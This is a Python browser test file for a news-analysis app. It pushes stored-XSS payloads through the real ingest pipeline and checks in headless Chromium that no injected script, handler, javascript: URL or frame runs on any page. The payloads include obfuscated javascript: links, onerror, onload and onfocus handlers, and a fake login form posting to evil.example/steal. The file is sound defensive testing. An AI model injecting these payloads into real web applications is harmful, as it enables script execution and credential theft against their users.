"""Stored XSS, end to end: a feed of hostile items goes through the real ingest (upload
to the running app, background job, cleaning, understanding stages), then every page
that shows them is opened in Chromium. No dialog may open, no script of theirs may run,
and no executable markup may reach the page: no ``<script`` but our static one, no
``on*=`` handler, no ``javascript:`` URL, no ``<iframe>``/``<object>``/``<embed>`` and no
``<svg>``/``<form>`` but ours. Payload *text* is expected to be shown, escaped."""

from __future__ import annotations

import json
import os
import re
import time
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest

from chronicler.config import Settings
from chronicler.ingest import sandbox
from chronicler.store import Store, open_store
from chronicler.web.app import create_app
from chronicler.web.serve import serve_in_thread

CHROMIUM = Path(os.environ.get("CHRONICLER_TEST_CHROMIUM", "/usr/bin/chromium"))
CHROMIUM_ARGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic",
                 "--no-first-run", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync"]

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(),
                       reason=f"no Chromium at {CHROMIUM} (apt-get install chromium)"),
]

# Each item carries one family of payloads in its title, link, author and body; the
# bodies also hold plain sentences (with quotes) so the items survive cleaning and the
# quote stage picks payloads up as quotes.
ITEMS = [
    ("<script>alert('title-1')</script>Merovia strikes reported",
     "javascript:alert('link-1')",
     "\"><script>alert('author-1')</script>",
     "<p>Merovia said on Tuesday it struck three sites in Kaldoria.</p>"
     "<script>alert('body-1')</script><p>\"<script>alert('quote-1')</script> We hit only "
     "camps,\" Defence Minister Ana Velic said in Varsk on Tuesday.</p>"),
    ("<img src=x onerror=alert('title-2')> Kaldoria denies losses",
     "https://news.example/2",
     "Reporter <img src=x onerror=alert('author-2')>",
     "<p>Kaldoria denied on Wednesday that it lost any aircraft in the clashes.</p>"
     "<img src=x onerror=alert('body-2')><p>\"<img src=x onerror=alert('quote-2')> "
     "Nothing was lost,\" said military spokesman Aziz Korhan in Tirvan.</p>"),
    ("Click &#106;avascript:alert('title-3') for the ceasefire text",
     "&#106;avascript:alert('link-3')",
     "Staff",
     "<p>Merovia and Kaldoria agreed to a ceasefire on Saturday after talks.</p>"
     "<p><a href=\"&#106;avascript:alert('body-3')\">Read the text</a> and "
     "<a href=\"jav&#x09;ascript:alert('body-3b')\">the annex</a>.</p>"
     "<p>\"The guns will fall silent tonight,\" said envoy Lena Marsh.</p>"),
    ("<svg onload=alert('title-4')> Norvane offers talks",
     "https://news.example/4",
     "Staff",
     "<p>Norvane offered on Monday to host talks between Merovia and Kaldoria.</p>"
     "<svg onload=alert('body-4')><circle r=5 /></svg>"
     "<p>\"<svg/onload=alert('quote-4')> We are ready to host both sides,\" said Lena "
     "Marsh in Norvane.</p>"),
    ("<iframe src=javascript:alert('title-5')></iframe> UN urges restraint",
     "https://news.example/5",
     "Staff",
     "<p>The United Nations urged Merovia and Kaldoria on Friday to show maximum "
     "restraint.</p><form action=\"https://evil.example/steal\"><input name=pw>"
     "<button>Log in</button></form><iframe src=\"javascript:alert('body-5')\"></iframe>"
     "<object data=\"javascript:alert('body-5b')\"></object>"
     "<p>\"<iframe src=javascript:alert('quote-5')></iframe> Both sides must step back,\" "
     "the secretary-general said in a statement.</p>"),
]


def _cdata(s: str) -> str:
    return "<![CDATA[" + s.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def hostile_feed() -> str:
    items = []
    for i, (title, link, author, body) in enumerate(ITEMS, 1):
        items.append(
            f"<item><title>{_cdata(title)}</title><link>{_cdata(link)}</link>"
            f"<author>{_cdata(author)}</author><guid>hostile-{i}</guid>"
            f"<pubDate>Tue, 0{i} Apr 2025 10:00:00 GMT</pubDate>"
            f"<description>{_cdata(body)}</description></item>")
    return ('<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel>'
            "<title><![CDATA[<script>alert('channel')</script>Hostile Wire]]></title>"
            "<link>https://news.example/</link><description>payloads</description>"
            + "".join(items) + "</channel></rss>\n")


# Feeds go through feedparser's sanitizer and HTML-to-text extraction, which remove
# most markup. Plain text is stored as written: these records keep the payloads as
# text, so the pages must escape them.
TEXT_RECORDS = [
    {"title": "<script>alert('jt-1')</script><img src=x onerror=alert('jt-1b')>",
     "url": "javascript:alert('ju-1')", "outlet": "<b onmouseover=alert('jo-1')>Wire</b>",
     "author": "\"><svg onload=alert('ja-1')>", "published": "2025-04-03",
     "text": "Merovia said <script>alert('jx-1')</script> that it struck camps in Kaldoria "
             "on Tuesday. \"<img src=x onerror=alert('jq-1')> We hit only camps,\" said "
             "Ana Velic in Varsk. Read <a href=\"javascript:alert('jx-2')\">this</a> and "
             "<iframe src=javascript:alert('jx-3')></iframe> <svg/onload=alert('jx-4')> "
             "<form action=https://evil.example><input name=pw></form> &#106;avascript:"
             "alert('jx-5') -- OR 1=1; 100% _done_."},
    {"title": "Kaldoria \" onfocus=alert('jt-2') autofocus x=\"", "url": " JaVaScRiPt:alert(1)",
     "published": "2025-04-04",
     "text": "\"</blockquote><script>alert('jq-2')</script>Nothing was lost,\" said "
             "military spokesman Aziz Korhan in Tirvan on Wednesday. ]]></mark><mark id=x "
             "onclick=alert('jx-6')>Kaldoria denied losing aircraft.</mark>"},
]


HOOK = """
window.__xss = [];
for (const name of ["alert", "confirm", "prompt", "print"]) {
  const original = window[name];
  window[name] = function (...args) { window.__xss.push(name + ":" + args.join(",")); return original.apply(window, args); };
}
"""


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def markup_problems(html: str) -> list[str]:
    """Executable markup in an HTML document, ignoring text (where an escaped payload
    is harmless and expected)."""
    problems = []
    p = Tags()
    p.feed(html)
    for tag, attrs in p.tags:
        if tag == "script" and attrs != {"src": "/static/app.js", "defer": None}:
            problems.append(f"script {attrs}")
        if tag in ("iframe", "object", "embed", "svg", "math", "base", "meta") and not (
                tag == "meta" and set(attrs) <= {"charset", "name", "content"}):
            problems.append(f"<{tag}> {attrs}")
        if tag == "form" and not (attrs.get("action") or "").startswith("/"):
            problems.append(f"form {attrs}")
        for name, value in attrs.items():
            v = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            if name.startswith("on"):
                problems.append(f"handler {tag} {name}={value}")
            if v.startswith(("javascript:", "vbscript:", "data:text")):
                problems.append(f"url {tag} {name}={value}")
    # The same, on the raw text: inside a tag (text is escaped, so '<' only opens ours).
    for m in re.finditer(r"<[a-zA-Z][^>]*>", html):
        t = m.group(0).lower()
        if re.search(r"\son\w+\s*=", t) or "javascript:" in t:
            problems.append(f"raw tag {m.group(0)}")
    if html.lower().count("<script") != 1:
        problems.append(f"{html.lower().count('<script')} <script occurrences")
    return problems


@contextmanager
def chromium() -> Iterator[Any]:
    # See test_browser.chromium: the ingest's forked sandbox worker must be stopped
    # before Playwright, or its driver never sees its pipes close.
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            yield b
        finally:
            b.close()
            sandbox.shutdown()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Store]]:
    """The app with the hostile feed ingested through its own upload endpoint."""
    tmp = tmp_path_factory.mktemp("xss")
    feed = tmp / "hostile.rss"
    feed.write_text(hostile_feed(), encoding="utf-8")
    records = tmp / "hostile.jsonl"
    records.write_text("".join(json.dumps(r) + "\n" for r in TEXT_RECORDS), encoding="utf-8")
    db = tmp / "xss.duckdb"
    with open_store(db) as store:
        app = create_app(db, store=store, settings=Settings.from_env(db=db, analyze=1))
        with serve_in_thread(app) as url:
            files = [("files", (p.name, p.read_bytes())) for p in (feed, records)]
            r = httpx.post(f"{url}/api/ingest", files=files, timeout=30)
            assert r.status_code == 202, r.text
            job = r.json()
            deadline = time.monotonic() + 120
            while job["state"] in ("queued", "running") and time.monotonic() < deadline:
                time.sleep(0.3)
                job = httpx.get(f"{url}/api/ingest/{job['id']}", timeout=10).json()
            assert job["state"] == "done", job
            sandbox.shutdown()  # before Chromium starts: see chromium()
            yield url, store


def _pages(url: str) -> list[str]:
    arts = httpx.get(f"{url}/api/articles", params={"limit": 200}, timeout=10).json()["items"]
    actors = httpx.get(f"{url}/api/actors", params={"limit": 20}, timeout=10).json()["items"]
    stories = httpx.get(f"{url}/api/stories", timeout=10).json()["items"]
    pages = ["/", "/articles", "/quotes", "/claims", "/events", "/actors", "/ingest",
             "/search?q=alert", "/search?q=%3Cscript", "/search?q=onerror",
             "/search?q=javascript", "/quotes?type=direct"]
    pages += [f"/articles/{a['id']}" for a in arts]
    pages += [f"/actors/{a['id']}" for a in actors]
    pages += [f"/stories/{s['id']}" for s in stories]
    return pages


def test_payloads_were_stored(served: tuple[str, Store]) -> None:
    """The test is not vacuous: payload text reached the database."""
    url, store = served
    arts = httpx.get(f"{url}/api/articles", params={"limit": 200}, timeout=10).json()["items"]
    assert len(arts) == len(ITEMS) + len(TEXT_RECORDS)
    stored = " ".join((a["title"] or "") + (a["author"] or "") + (a["url"] or "") + a["text"]
                      + (a["outlet"] or "") for a in arts)
    for payload in ("<script>", "onerror=", "javascript:", "<svg", "<iframe", "onmouseover="):
        assert payload in stored, payload
    quotes = httpx.get(f"{url}/api/quotes", params={"limit": 200}, timeout=10).json()["items"]
    assert any("onerror" in q["text"] or "<script>" in q["text"] for q in quotes)
    hits = httpx.get(f"{url}/api/search", params={"q": "alert"}, timeout=10).json()
    assert hits["total"] > 0


def test_no_script_runs_on_any_page(served: tuple[str, Store]) -> None:
    url, _ = served
    pages = _pages(url)
    dialogs: list[str] = []
    problems: dict[str, list[str]] = {}
    with chromium() as browser:
        context = browser.new_context()
        context.add_init_script(HOOK)
        page = context.new_page()

        def on_dialog(d: Any) -> None:
            dialogs.append(f"{page.url}: {d.type} {d.message}")
            d.dismiss()

        page.on("dialog", on_dialog)
        page.on("request", lambda r: r.url.startswith((url, "data:")) or dialogs.append(
            f"external request {r.url}"))
        for path in pages:
            resp = page.goto(url + path)
            assert resp is not None and resp.status == 200, path
            page.wait_for_load_state("load")
            raw = resp.text()
            found = markup_problems(raw)
            # The live DOM too: what the parser and our script built.
            found += page.evaluate("""() => {
              const bad = [];
              for (const el of document.querySelectorAll('*')) {
                for (const a of el.attributes) {
                  if (a.name.startsWith('on')) bad.push('dom handler ' + el.tagName + ' ' + a.name);
                  if (/^\\s*(javascript|vbscript):/i.test(a.value)) bad.push('dom url ' + el.tagName);
                }
              }
              for (const s of document.scripts) if (!s.src.endsWith('/static/app.js')) bad.push('dom script');
              for (const f of document.querySelectorAll('iframe,object,embed')) bad.push('dom ' + f.tagName);
              for (const s of document.querySelectorAll('svg')) if (!s.classList.contains('chart-svg')) bad.push('dom svg');
              return bad;
            }""")
            calls = page.evaluate("window.__xss")
            found += [f"called {c}" for c in calls]
            if found:
                problems[path] = found
        context.close()
    assert dialogs == []
    assert problems == {}
    # The pages did show the payload text, escaped.
    assert len(pages) > 12


def test_markup_checker_catches_payloads() -> None:
    """The checker itself finds what it must (so a pass means something)."""
    ours = '<script src="/static/app.js" defer></script>'
    assert markup_problems(ours + "<p>&lt;script&gt;alert(1) onerror=x javascript:</p>") == []
    for bad in ["<img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
                "<a href='&#106;avascript:alert(1)'>x</a>", "<script>alert(1)</script>",
                "<svg onload=alert(1)>", "<iframe src=x></iframe>",
                "<form action='https://evil.example'></form>",
                "<a href='jav&#x09;ascript:alert(1)'>x</a>"]:
        assert markup_problems(ours + bad), bad
